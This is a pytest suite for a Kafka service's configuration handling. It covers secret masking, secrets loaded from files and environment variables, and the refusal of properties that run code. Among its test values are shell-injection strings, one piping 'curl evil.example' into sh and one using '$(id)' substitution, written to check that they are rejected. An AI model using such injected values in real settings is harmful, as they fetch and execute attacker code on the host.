"""The service's configuration: secrets are masked, and may stand in files of their own."""

from pathlib import Path

import pytest

from kafka_partition_events.observe.setting_kinds import masked
from kafka_partition_events.observe.settings import WebhookSinkSettings
from tests.config_kit import WHOLE, Writer, origin, text


def test_secrets_are_masked(config: Writer) -> None:
    found = config.load(WHOLE, {"KPE_KAFKA__PROPERTIES__SASL_PASSWORD": "hunter2"})
    assert found.settings.kafka.properties["sasl.password"] == "hunter2"
    assert text(found, "kafka.properties.sasl.password") == "***"
    assert text(found, "kafka.properties.sasl.username") == "kpe"
    assert text(found, "sinks.pager.url") == "https://pager.example/***"
    assert text(found, "sinks.pager.secrets") == "***"
    assert text(found, "sinks.pager.headers.Authorization") == "***"
    told = str(found.values)
    assert not [secret for secret in ("hunter2", "s3cret", "whsec") if secret in told]


@pytest.mark.parametrize(
    ("secret", "told"),
    [
        ("https://user:pw@hooks.example:8443/T0/B0?key=1", "https://hooks.example:8443/***"),
        ("http://[::1]:99999/", "***"),
        ("ftp://x/y", "***"),
        ("hunter2", "***"),
        (["a"], "***"),
    ],
)
def test_of_a_secret_url_only_the_host_is_told(secret: object, told: str) -> None:
    assert masked(secret) == told


def test_a_secret_may_come_from_a_file(config: Writer, tmp_path: Path) -> None:
    (tmp_path / "password").write_text("hunter2\n")
    (tmp_path / "url").write_text("https://pager.example/x\n")
    (tmp_path / "secrets").write_text("whsec_new\nwhsec_old\n")
    (tmp_path / "token").write_text("Bearer s3cret\n")
    (tmp_path / "page.j2").write_text('{"text": {{ name | tojson }}}\n')
    found = config.load(
        f'[kafka.properties]\n"sasl.password_file" = "{tmp_path}/password"\n'
        f'[[sinks]]\nname = "pager"\ntype = "webhook"\nurl_file = "{tmp_path}/url"\n'
        f'secrets_file = "{tmp_path}/secrets"\nheaders.Authorization_file = "{tmp_path}/token"\n'
        f'template_file = "{tmp_path}/page.j2"\n'
    )
    (sink,) = found.settings.sinks
    assert isinstance(sink, WebhookSinkSettings)
    assert found.settings.kafka.properties == {"sasl.password": "hunter2"}
    assert (sink.url, sink.secrets) == ("https://pager.example/x", ("whsec_new", "whsec_old"))
    assert sink.headers == {"Authorization": "Bearer s3cret"}
    assert sink.template == '{"text": {{ name | tojson }}}'
    assert origin(found, "sinks.pager.url") == f"file {config.path}: {tmp_path}/url"
    assert text(found, "kafka.properties.sasl.password") == "***"


def test_the_environment_may_name_such_a_file_too(config: Writer, tmp_path: Path) -> None:
    (tmp_path / "password").write_text("hunter2\n")
    of_sasl, password = "KPE_KAFKA__PROPERTIES__SASL_", f"{tmp_path}/password"
    environ = {
        f"{of_sasl}PASSWORD_FILE": password,
        f"{of_sasl}OAUTHBEARER_ASSERTION_PRIVATE_KEY_PASSPHRASE_FILE": password,
        f"{of_sasl}OAUTHBEARER_ASSERTION_JWT_TEMPLATE_FILE": "/template.json",
    }
    found = config.load("", environ)
    assert found.settings.kafka.properties == {
        "sasl.oauthbearer.assertion.jwt.template.file": "/template.json",
        "sasl.oauthbearer.assertion.private.key.passphrase": "hunter2",
        "sasl.password": "hunter2",
    }


def test_a_secret_file_that_is_not_there_is_told(config: Writer) -> None:
    assert config.problems('[kafka.properties]\n"sasl.password_file" = "/nowhere/password"\n') == [
        'kafka.properties.sasl.password_file: "/nowhere/password": No such file or directory'
    ]


def test_a_secret_and_its_file_at_once_are_refused(config: Writer) -> None:
    sink = '[[sinks]]\nname = "p"\ntype = "webhook"\nurl = "https://x.example/"\nurl_file = "/x"\n'
    assert config.problems(sink)[0] == "sinks.p.url: is given twice, as a value and as a file"
    login = '[kafka.properties]\n"sasl.password" = "hunter2"\n"sasl.password_file" = "/x"\n'
    assert config.problems(login)[0] == (
        "kafka.properties.sasl.password: is given twice, as a value and as a file"
    )


def test_a_wrong_secret_is_not_repeated(config: Writer) -> None:
    (problem,) = config.problems('[[sinks]]\nname = "p"\ntype = "webhook"\nurl = "hunter2"\n')
    assert problem == "sinks.p.url: *** is not an http:// or https:// URL"


def test_what_must_not_be_told_is_known(config: Writer, tmp_path: Path) -> None:
    (tmp_path / "secrets").write_text("whsec_three\nwhsec_four\n")
    found = config.load(
        f'{WHOLE}[[sinks]]\nname = "b"\ntype = "webhook"\nurl = "https://b.example/x"\n'
        f'secrets_file = "{tmp_path}/secrets"\n',
        {"KPE_KAFKA__PROPERTIES__SASL_PASSWORD": "hunter2"},
    )
    urls = {"https://pager.example/hook/s3cret", "https://b.example/x"}
    signing = {"whsec_one", "whsec_two", "whsec_three", "whsec_four"}
    assert found.secrets == {"hunter2", "Bearer s3cret"} | urls | signing
    assert "hunter2" not in repr(found.values)


REFUSED = "this setting runs code in the service; set kafka.allow_code = true if that is meant"


class TestPropertiesThatAreCode:
    @pytest.mark.parametrize(
        ("name", "value"),
        [
            ("plugin.library.paths", "monitoring-interceptor"),
            ("sasl.kerberos.kinit.cmd", "kinit -R"),
            ("ssl.engine.location", "/usr/lib/pkcs11.so"),
            ("ssl.engine.id", "pkcs11"),
            ("ssl.providers", "legacy"),
            ("sasl.kerberos.principal", "kpe@EXAMPLE; curl evil.example | sh"),
            ("sasl.kerberos.keytab", "/etc/kpe/$(id).keytab"),
        ],
    )
    def test_they_are_refused_unless_somebody_says_so(self, config: Writer, name: str, value: str) -> None:
        text = f'[kafka.properties]\n"{name}" = "{value}"\n'
        assert config.problems(text) == [f"kafka.properties.{name}: {REFUSED}"]
        allowed = config.load(f"[kafka]\nallow_code = true\n{text}")
        assert allowed.settings.kafka.properties == {name: value}
        assert config.load(text, {"KPE_KAFKA__ALLOW_CODE": "true"}).settings.kafka.allow_code
        assert config.problems(text, {"KPE_KAFKA__ALLOW_CODE": "false"})

    def test_they_are_refused_wherever_they_come_from(self, config: Writer) -> None:
        environ = {"KPE_KAFKA__PROPERTIES__PLUGIN_LIBRARY_PATHS": "x"}
        assert len(config.problems("", environ)) == 1
        assert len(config.problems("", overrides={"kafka.properties.plugin.library.paths": "x"})) == 1
        sink = '[[sinks]]\nname = "a"\ntype = "kafka"\nproperties = { "ssl.providers" = "x" }\n'
        assert len(config.problems(sink)) == 1

    @pytest.mark.parametrize(
        ("name", "value"),
        [
            ("sasl.kerberos.principal", "kpe/host.example@EXAMPLE.ORG"),
            ("sasl.kerberos.keytab", "/etc/security/kpe.keytab"),
            ("sasl.kerberos.service.name", "kafka"),
            ("ssl.key.location", "/etc/kpe/my key.pem"),
        ],
    )
    def test_others_are_not(self, config: Writer, name: str, value: str) -> None:
        found = config.load(f'[kafka.properties]\n"{name}" = "{value}"\n')
        assert found.settings.kafka.properties == {name: value}
